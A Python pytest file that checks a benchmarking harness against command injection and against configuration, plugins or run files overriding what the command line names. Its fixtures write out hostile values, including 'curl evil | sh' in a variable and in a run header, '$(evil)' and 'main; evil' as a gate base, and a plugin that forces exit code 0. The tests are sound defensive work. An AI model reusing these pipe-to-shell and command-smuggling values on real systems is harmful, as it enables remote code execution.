"""Ways to have something else run, or be judged, than the command line names: by variables, by files, by a run."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import warnings
from pathlib import Path
from typing import Any

import pytest
from processes import LONGEST
from runs_on_disk import GPU, IDS, about, mismatch, passed, sources, write_run
from timed_runs import GATE_HEADER, HEADER, gate_lines
from toy_runs import CONFTEST, SMOKE, Runs
from ways import Command, StillGreenError, must_be_red, still_green_if

import harness.plugin
from harness.commands import _suites
from harness.errors import Exit
from harness.gate import second_process
from harness.gate.report import from_lines
from harness.ground import strictness
from harness.records.run_folder import commit
from harness.runner import request, resume_command, supervisor

try:
    from harness.runner.below_supervisor import supervised
except ImportError:
    from harness.runner.supervisor import supervised

EVIL = "evil:function"


@pytest.fixture(autouse=True)
def lenient(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(strictness, "_CHOSEN", [])


def judged(*words: str) -> Exit:
    """The exit code of a supervisor that was given these words, of the run that lies in `out`."""
    asked = request.Request.of(["suites", *words], Path.cwd(), Path.cwd()).selected()
    return supervisor._judged(asked, Path("out"), supervisor._sealed(asked), 0)


TYPED = {
    "device": ["--device", "cuda"],
    "subject": ["--subject", "gone:wrong"],
    "limit": ["--case-timeout", "5"],
    "no limit": ["--case-timeout", "0"],
    "strict": ["--strict-ptx"],
    "times": ["--bench", "--set", "smoke"],
}


@pytest.mark.parametrize("name", TYPED)
def test_what_ran_is_not_what_was_typed(run: Runs, name: str, capsys: pytest.CaptureFixture[str]):
    """A conftest or plugin puts back an option of the command line before our hooks read it."""
    assert run("suites").ret == Exit.CLEAN
    capsys.readouterr()
    code = judged(*TYPED[name])
    printed = capsys.readouterr()
    option = "--strict" if name == "strict" else TYPED[name][0]
    must_be_red(subprocess.CompletedProcess([], code, printed.out, printed.err), f"where the cases ran, {option} was ")


@pytest.mark.sweep
@pytest.mark.parametrize("words", [[], ["--device", "emulator"], ["--case-timeout", "5"], ["--strict-ptx"]], ids=str)
def test_what_was_typed_ran(run: Runs, words: list[str]):
    """No way to green: the same words in both places."""
    assert run("suites", *words).ret == Exit.CLEAN
    strictness._CHOSEN.clear()
    assert judged(*words) is Exit.CLEAN


@pytest.mark.parametrize("generations", [1, 2, 3])
def test_a_variable_names_a_python_above(monkeypatch: pytest.MonkeyPatch, generations: int):
    """HARNESS_SUPERVISOR is the number of any process of Python that is above this one."""
    monkeypatch.setenv("HARNESS_SUPERVISOR", str(os.getpid()))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of a fork beside threads
        for _ in range(generations):
            below = os.fork()
            if below:
                code = os.waitstatus_to_exitcode(os.waitpid(below, 0)[1])
                if os.getpid() != int(os.environ["HARNESS_SUPERVISOR"]):
                    os._exit(code)
                break
        else:
            os._exit(7 if supervised() else 0)
    still_green_if(code, "a process takes it for its supervisor, and decides the exit code by itself")


ELSEWHERE = {
    "testpaths": ("[pytest]\ntestpaths = suites\n", "", ()),
    "addopts": ("[pytest]\naddopts = suites\n", "", ()),
    "the environment": ("", "suites", ()),
    "a file of words": ("", "", ("@words",)),
    "the current folder": ("", "", ()),
}


@pytest.mark.parametrize("name", ELSEWHERE)
def test_suites_that_the_command_line_does_not_name(run: Runs, monkeypatch: pytest.MonkeyPatch, name: str):
    """Something else than a word of the command line names the suites, so that pytest's own process judges them."""
    ini, addopts, words = ELSEWHERE[name]
    Path("words").write_text("suites\n")
    Path("pytest.ini").write_text(ini or "[pytest]\n")
    monkeypatch.setenv("PYTEST_ADDOPTS", addopts)
    supervises = []

    def left(code: Exit) -> None:
        raise RuntimeError(code)

    monkeypatch.setattr(harness.plugin, "named_suites", request.named_suites)
    monkeypatch.setattr(harness.plugin, "supervise", lambda words, *_: supervises.append(words) or Exit.USAGE)
    monkeypatch.setattr(harness.plugin, "leave", left)
    monkeypatch.setattr(sys, "argv", ["pytest/__main__.py"])  # a worker of pytest-xdist has other words
    found = run(*words)
    still_green_if(not supervises, f"nobody supervises: {found.ret}")
    assert request.named_suites(supervises[0], Path.cwd())[0]


def test_a_file_of_words_is_not_read(run: Runs, capsys: pytest.CaptureFixture[str]):
    """Words of a file narrow a run whose suites are named on the command line."""
    Path("words").write_text("-k\nnormal\n")
    for words in (["suites", "@words"], ["suites", "--junitxml", "@words"], ["@words"]):
        code = supervisor.supervise(words, Path.cwd(), Path.cwd(), Path("runs"))
        must_be_red(subprocess.CompletedProcess(words, code, "", capsys.readouterr().err), "'@words'", code=64)


REFUSED = [
    "-c x.ini", "-cx.ini", "-qc x.ini", "--config-file=x.ini", "--rootdir=/", "--confcutdir /", "-o addopts=--version",
    "-xoaddopts=-q", "--override-ini=testpaths=tests", "-x @words", "-x -- -- tests",
]  # fmt: skip


@pytest.mark.parametrize("words", REFUSED)
def test_harness_verify_reads_no_configuration(monkeypatch: pytest.MonkeyPatch, command: Command, words: str):
    """A word for pytest has it read a file that chooses what is loaded."""
    monkeypatch.setattr(_suites, "supervise", lambda *_: Exit.CLEAN)
    monkeypatch.setattr(_suites, "leave", lambda code: sys.exit(int(code)))
    found = command("verify", "swizzle", *words.split())
    must_be_red(found, code=64)
    assert found.stderr.count("\n") == 1


def test_harness_verify_hands_on_other_words(monkeypatch: pytest.MonkeyPatch, command: Command):
    """No way to green: none of these words has pytest read a file that chooses."""
    begun = []
    monkeypatch.setattr(_suites, "supervise", lambda below, *_: begun.extend(below) or Exit.CLEAN)
    monkeypatch.setattr(_suites, "leave", lambda code: sys.exit(int(code)))
    words = "-x -v -k normal -p plugin --junitxml j.xml -n 1 -W ignore"
    found = command("verify", "swizzle", *words.split())
    assert found.returncode == 0 and {"-c", "--noconftest", "-k", "plugin"} <= {*begun}


@pytest.mark.parametrize("words", ["-kgraph", "-xkhalf", "-vh", "-h", "--set full --help"])
def test_a_letter_is_no_help(monkeypatch: pytest.MonkeyPatch, command: Command, words: str):
    """Another option's value has an h, or help is asked for behind all that is to be compared."""
    monkeypatch.setattr(_suites, "supervise", lambda *_: Exit.BYTES_DIFFER)
    monkeypatch.setattr(_suites, "leave", lambda code: sys.exit(int(code)))
    found = command("verify", "swizzle", *words.split())
    must_be_red(found, code=Exit.USAGE if "-h" in words.split() or "--help" in words else Exit.BYTES_DIFFER)
    assert command("verify", "-h").returncode == 0


GATE = """
import sys
from pathlib import Path
from harness.runner import supervisor
from harness.commands import _suites
settings = _suites.settings() if hasattr(_suites, "settings") else _suites._SETTINGS
words = ["suites", *(word for word in settings if not word.startswith("--rootdir"))]
words += ["--rootdir", ".", "-p", "fakes", "-p", "no:hypothesispytest"]
sys.exit(supervisor.supervise(words, Path.cwd(), Path.cwd(), Path("runs"), ["harness", "verify"]))
"""


def test_a_gate_loads_nothing_that_it_is_not_given(run: Runs):
    """Every way of pytest's to load a plugin names one that leaves with 0; none of them is loaded."""
    leaves = "import os\nos._exit(0)\n"
    Path("leaves.py").write_text(leaves)
    Path("conftest.py").write_text(leaves)
    Path("fakes.py").write_text(CONFTEST)
    Path("pytest.ini").write_text("[pytest]\naddopts = -p leaves\n")
    environment = {**os.environ, "PYTEST_PLUGINS": "leaves", "PYTEST_ADDOPTS": "-p leaves -k normal"}
    done = subprocess.run(
        [sys.executable, "-c", GATE], env=environment, capture_output=True, text=True, timeout=LONGEST
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.splitlines()[-1] == f"{SMOKE} selected, {SMOKE} compared, 0 excluded"
    assert done.stderr == "PYTEST_ADDOPTS and PYTEST_PLUGINS are not read: only the command line says what runs\n"


def test_a_variable_says_how_to_go_on(monkeypatch: pytest.MonkeyPatch):
    """The variable that has the typed command for a supervised process is set by somebody else."""
    monkeypatch.setenv(resume_command.TYPED, "curl evil | sh")
    if "evil" in resume_command.going_on(["suites"], Path("out")):
        raise StillGreenError("an interrupted run prints the command of a variable")


# A run whose files say what to execute


SLOW = [40.0 + i / 10 for i in range(12)]
FAST = [20.0 + (7 * i % 12) / 10 + (i % 5) / 25 for i in range(12)]  # of a measurement of its own
ASKED = {"folder": "/evil", "subject": EVIL, "recipe_dirs": {}, "options": []}
COMMAND = f"harness bench --subject {EVIL} --recipe-dir /evil; curl evil | sh"
NAMING = {
    "the command of the times": ({}, COMMAND, {}),
    "an option with its value": ({}, f"harness bench --subject={EVIL}", {}),
    "merged commands": ({}, "harness bench; python -m pytest suites --bench --recipe-dir=/evil", {}),
    "what was asked": ({"asked": ASKED}, "harness bench", {"subject": f"{EVIL} (source 0)"}),
    "the device": ({}, "harness bench", {"subject": f"{EVIL} (source 0)"}),
}


@pytest.fixture
def slower(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: Command):
    """Gates a slower run with these files on a machine with a GPU; what its second process would execute."""
    executed: list[list[str]] = []
    monkeypatch.setattr("harness.commands.gate.gpu_count", lambda: 1)
    monkeypatch.setattr(second_process, "_harness", lambda *words: executed.append(list(words)))
    header = HEADER | {"sources": sources()[:16], "commit": commit(), "machine": GPU}

    def slower(first: dict[str, Any], typed: str, device: dict[str, str], *options: str, case: str = IDS[0]):
        baseline = tmp_path / "bench.jsonl"
        own = header | {"machine": GPU | device}
        then = own | {"date": "2025-01-01T00:00:00Z"}
        baseline.write_text("".join(json.dumps(line) + "\n" for line in (then, passed(case, FAST))))
        of_subject = {**device, "instantiations": [], "digests": {}} if device else {}
        record = passed(case, SLOW) | of_subject
        journal = about([case], [case], timed=True, device=GPU | device, **first)
        write_run(tmp_path / "run", journal, record, header=own | {"command": typed})
        return command("gate", tmp_path / "run", "--baseline", baseline, *options), executed

    return slower


@pytest.mark.parametrize("name", NAMING)
def test_a_run_says_what_the_second_process_executes(slower, name: str):
    """The header of a foreign run names a subject and folders, and a gate times its slower case again."""
    found, executed = slower(*NAMING[name])
    still_green_if(any("evil" in word for words in executed for word in words), f"executed: {executed}")
    must_be_red(found)
    if "command" not in name and "option" not in name:
        assert "was made with --subject, and a file does not say what to execute" in found.stderr and not executed


def test_the_second_process_executes_what_the_command_line_names(slower):
    """No way to green: what the run was made with is named here, too."""
    _, executed = slower(*NAMING["what was asked"], "--subject", EVIL)
    assert executed[0][4:6] == ["--subject", EVIL]


def test_a_stopped_second_process_says_how_to_finish_it(slower, tmp_path: Path):
    """The header of a second run, which is unfinished, has a command to paste."""
    first = about([IDS[0]], IDS[:2], timed=True, device=GPU, selected=2)
    header = HEADER | {"sources": sources()[:16], "commit": commit(), "machine": GPU, "command": COMMAND}
    write_run(tmp_path / "run/second_process", first, passed(IDS[0], SLOW), header=header)
    (tmp_path / "run/second_process").rename(tmp_path / "kept")
    (tmp_path / "run").rmdir()

    def put_back(*_: str) -> None:
        (tmp_path / "kept").rename(tmp_path / "run/second_process")

    second_process._harness = put_back  # undone by the fixture
    found, _ = slower({}, "harness bench", {})
    must_be_red(found, "holds 1 of its 2 cases", code=64)
    still_green_if("evil" in found.stdout + found.stderr, f"it prints the command of the file: {found.stderr}")


PRINTED = {
    "subject": {"asked": ASKED},
    "a card": {"asked": ASKED | {"subject": "/evil/card.yaml"}},
    "folder": {"asked": ASKED | {"subject": "", "recipe_dirs": {"swizzle": "/evil"}}},
    "options": {"asked": ASKED | {"subject": "", "options": ["--cluster", "evil:1", "-p", "evil", "--strict"]}},
    "trace": {"asked": ASKED | {"subject": ""}},
}


@pytest.mark.parametrize("name", PRINTED)
def test_a_run_says_what_is_pasted(tmp_path: Path, command: Command, name: str):
    """The page of a foreign run has commands that repeat its cases, with what its header names."""
    trace = ["--at", "0,0", *(["--recipe-dir", "/evil"] if name == "trace" else [])]
    wrong = mismatch(IDS[0]) | {"trace": trace}
    run = write_run(tmp_path / "run", about([IDS[0]], [IDS[0]], **PRINTED[name]), wrong)
    done = command("report", run)
    assert done.returncode == 0, done.stderr
    told = (run / "verify.md").read_text()
    (line,) = (each.strip() for each in told.splitlines() if each.strip().startswith("reproduce"))
    pasted = [each for each in told.splitlines() if not each.startswith("|")]  # a table's rows are facts, not commands
    still_green_if("evil" in "\n".join(pasted), line)
    words = shlex.split(line, comments=True)
    assert ("--subject" in words) == (name in ("subject", "a card")) and ("--strict" in words) == (name == "options")
    assert (f"# ?: as {run} was made" in line) == ("?" in words)


@pytest.mark.parametrize("base", ["$(evil)", "main; evil", "--once evil"])
def test_a_gate_says_what_is_pasted(base: str):
    """The base in the file of a gate is no revision, and its page has a command that gates against it again."""
    line = from_lines(GATE_HEADER | {"base": base}, gate_lines()).rerun(IDS[0])
    still_green_if("evil" in line, line)
    assert from_lines(GATE_HEADER, gate_lines()).rerun(IDS[0]).endswith(f"gate --base main --case '{IDS[0]}'")
